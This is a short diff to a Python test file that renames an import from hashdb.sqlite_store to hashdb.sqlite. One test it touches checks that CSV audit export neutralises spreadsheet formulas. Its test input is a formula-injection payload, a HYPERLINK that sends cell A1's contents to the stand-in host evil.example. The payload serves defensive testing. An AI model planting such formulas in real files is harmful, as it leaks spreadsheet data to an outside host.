@@ -155,7 +155,7 @@ def _seed_audit(db: Path) -> list[int]:
     """A database with audit events of two chats; returns the event ids of the first."""
     import asyncio as aio
 
-    from hashdb.sqlite_store import SQLiteStore
+    from hashdb.sqlite import SQLiteStore
     from hashdb.store import AuditEvent
 
     async def seed() -> list[int]:
@@ -220,7 +220,7 @@ def test_audit_csv_export_makes_formula_names_inert(
     import asyncio as aio
     import json
 
-    from hashdb.sqlite_store import SQLiteStore
+    from hashdb.sqlite import SQLiteStore
     from hashdb.store import AuditEvent
 
     name = start + 'HYPERLINK("https://evil.example/?x="&A1,"click")'
